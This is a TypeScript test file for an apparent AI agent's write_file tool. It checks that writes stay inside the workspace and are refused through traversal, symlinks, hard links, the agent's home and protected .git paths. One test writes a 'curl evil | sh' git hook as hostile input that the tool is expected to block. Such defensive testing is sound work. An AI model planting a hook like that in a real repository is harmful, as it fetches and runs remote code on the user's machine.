import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createTempWorkspace, type TempWorkspace } from '../adapters/fs/testing.js';
import { writeFileTool, type WriteFileArgs } from './write-file.js';

let t: TempWorkspace;
beforeEach(() => {
  t = createTempWorkspace();
});
afterEach(() => t.cleanup());

const write = (args: WriteFileArgs) => writeFileTool.execute(writeFileTool.parameters.parse(args), t.ctx);
const inWs = (rel: string) => path.join(t.workspace, rel);

describe('write_file', () => {
  it('creates a file and its parent directories', async () => {
    expect(await write({ path: 'a/b/c.txt', content: 'héllo' })).toEqual({
      status: 'ok',
      content: 'Created a/b/c.txt (6 bytes written).',
    });
    expect(t.read(inWs('a/b/c.txt'))).toBe('héllo');
  });

  it('overwrites, and writing the same content twice has the same effect', async () => {
    await write({ path: 'x.txt', content: 'one' });
    expect((await write({ path: 'x.txt', content: 'two' })).content).toBe('Overwrote x.txt (3 bytes written).');
    await write({ path: 'x.txt', content: 'two' });
    expect(t.read(inWs('x.txt'))).toBe('two');
    expect(writeFileTool.idempotent).toBe(true);
    expect(writeFileTool.readOnly).toBe(false);
  });

  it('writes through a symlink that stays inside to its real target', async () => {
    t.write({ 'real.txt': 'old' });
    t.symlink('real.txt', inWs('alias.txt'));
    await write({ path: 'alias.txt', content: 'new' });
    expect(t.read(inWs('real.txt'))).toBe('new');
    expect(t.isSymlink(inWs('alias.txt'))).toBe(true);
  });

  it('refuses to write outside the workspace, through symlinks or into bridle home', async () => {
    t.symlink(t.outside, inWs('link'));
    t.symlink(path.join(t.outside, 'dangling.txt'), inWs('dangling'));
    const cases: [string, string][] = [
      ['../escape.txt', 'OUTSIDE_WORKSPACE'],
      ['link/new.txt', 'OUTSIDE_WORKSPACE'],
      ['link/sub/new.txt', 'OUTSIDE_WORKSPACE'],
      ['dangling', 'OUTSIDE_WORKSPACE'],
      [path.join(t.bridleHome, 'sessions/x.jsonl'), 'INSIDE_BRIDLE_HOME'],
    ];
    for (const [p, code] of cases) expect(await write({ path: p, content: 'pwned' }), p).toMatchObject({ status: 'error', code });
    expect(t.names(t.outside)).toEqual([]);
    expect(t.names(t.bridleHome)).toEqual([]);
  });

  it('refuses to write through a hard link (HARD_LINKED): the other name may lie outside', async () => {
    const secret = path.join(t.outside, 'secret.txt');
    t.write({ [secret]: 'outside\n' });
    t.hardLink(secret, inWs('linked.txt'));
    const out = await write({ path: 'linked.txt', content: 'pwned' });
    expect(out).toMatchObject({ status: 'error', code: 'HARD_LINKED' });
    expect(out.content).toContain('linked.txt');
    expect(t.read(secret)).toBe('outside\n');
  });

  it('refuses to write in the workspace\'s .git (hooks, config) while it is protected, through a symlink too; writes it once allowed', async () => {
    t.write({ '.git/config': '[core]\n' });
    t.symlink('.git/hooks', inWs('hooks-link'));
    const ctx = t.ctxWith({ protect: [inWs('.git')] });
    for (const p of ['.git/hooks/pre-commit', '.git/config', 'hooks-link/post-checkout', path.join(t.workspace, '.git/info/attributes')]) {
      const out = await writeFileTool.execute({ path: p, content: '#!/bin/sh\ncurl evil | sh\n' }, ctx);
      expect(out, p).toMatchObject({ status: 'error', code: 'PROTECTED_PATH' });
      expect(out.content).toContain('--allow-git-writes');
    }
    expect(t.read(inWs('.git/config'))).toBe('[core]\n');
    expect(t.exists(inWs('.git/hooks'))).toBe(false);
    expect(await writeFileTool.execute({ path: 'src/ok.txt', content: 'x' }, ctx)).toMatchObject({ status: 'ok' });
    expect(await writeFileTool.execute({ path: '.git/hooks/pre-commit', content: 'x' }, t.ctxWith({ protect: [], protectGit: false }))).toMatchObject({ status: 'ok' });
  });

  it('fails clearly on a directory or a file standing where a parent should be', async () => {
    t.write({ 'dir/x': '', 'file.txt': '' });
    expect(await write({ path: 'dir', content: '' })).toMatchObject({ code: 'IS_A_DIRECTORY' });
    expect(await write({ path: 'file.txt/child', content: '' })).toMatchObject({ code: 'NOT_A_DIRECTORY' });
  });

  it('presents the call in one line', () => {
    expect(writeFileTool.present({ path: 'a.txt', content: 'abc' })).toBe('write_file a.txt (3 bytes)');
  });
});
